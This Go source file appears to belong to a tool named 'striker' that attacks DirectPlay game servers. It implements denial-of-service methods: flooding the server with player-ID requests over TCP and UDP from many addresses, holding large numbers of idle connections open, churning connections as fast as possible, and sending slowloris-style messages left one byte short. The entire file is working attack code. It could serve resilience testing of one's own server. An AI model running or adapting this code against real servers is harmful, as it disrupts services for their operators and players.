package main

import (
	"encoding/binary"
	"net"
	"net/netip"
	"time"

	"dplay4/wire"
)

// crowdOf is how many addresses an attack comes from that comes from many.
const crowdOf = 17

var requestID = &wire.RequestPlayerID{Flags: wire.PlayerSystem | wire.PlayerLocal}

// dialsByStream asks for ids in one connection. Beyond the 8,000 it goes on slowly, and again where it was closed.
func (x *striker) dialsByStream() error {
	for x.on() {
		c := x.call(x.at(0), x.Host.Stream)
		if c == nil {
			if !x.pause(everyMoment) {
				return nil
			}
			continue
		}
		for n := range uint16(8000) {
			if _, err := c.Write(octets(port(10000+n), requestID)); err != nil || !x.on() {
				break
			}
			x.attempts.Add(1)
		}
		x.pause(time.Second)
		c.Close()
	}
	return nil
}

func (x *striker) dialsByDatagram() error {
	var at []netip.Addr
	for i := range crowdOf {
		at = append(at, x.at(i))
	}
	return datagrams(func(from []*net.UDPConn) {
		for n := uint16(0); x.pause(time.Millisecond); {
			for _, c := range from {
				n++
				x.send(c, x.Host.Datagram, octets(port(10000+n%50000), requestID))
			}
		}
	}, at...)
}

// idlers keeps connections open, each with something said on it, and opens new ones for those that are closed.
func (x *striker) idlers(addresses, each int, say []byte) error {
	open := make([]net.Conn, addresses*each)
	for i := 0; x.on(); i = (i + 1) % len(open) {
		if open[i] != nil {
			open[i].SetReadDeadline(time.Now().Add(time.Microsecond))
			if _, err := open[i].Read(make([]byte, 1)); isTimeout(err) {
				if i == len(open)-1 {
					x.pause(everyMoment)
				}
				continue
			}
			open[i].Close()
		}
		if open[i] = x.call(x.at(i%addresses), x.Host.Stream); open[i] != nil {
			open[i].Write(say)
		}
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	for _, c := range open {
		if c != nil {
			x.conns = append(x.conns, c)
		}
	}
	return nil
}

func isTimeout(err error) bool {
	e, ok := err.(net.Error)
	return ok && e.Timeout()
}

func (x *striker) ping() []byte { return octets(port(2399), &wire.Ping{From: 1, Tick: 1}) }

func (x *striker) idle() error { return x.idlers(1, 1023, x.ping()) }

func (x *striker) idleMany() error { return x.idlers(crowdOf, 60, x.ping()) }

// churn opens connections as fast as it can.
func (x *striker) churn() error {
	for x.on() {
		x.tell(x.Host.Stream, x.ping())
	}
	return nil
}

// begun is the beginning of a message of a size, all but its last octet.
func begun(size int) []byte {
	b := make([]byte, size-1)
	copy(b, octets(netip.AddrPortFrom(netip.IPv4Unspecified(), 2399), &wire.Ping{From: 1}))
	binary.LittleEndian.PutUint32(b, 0xFAB00000|uint32(size))
	return b
}

func (x *striker) unfinished() error { return x.idlers(1, 1023, begun(wire.MaxMessage)) }

func (x *striker) unfinishedMany() error { return x.idlers(crowdOf, 60, begun(60000)) }
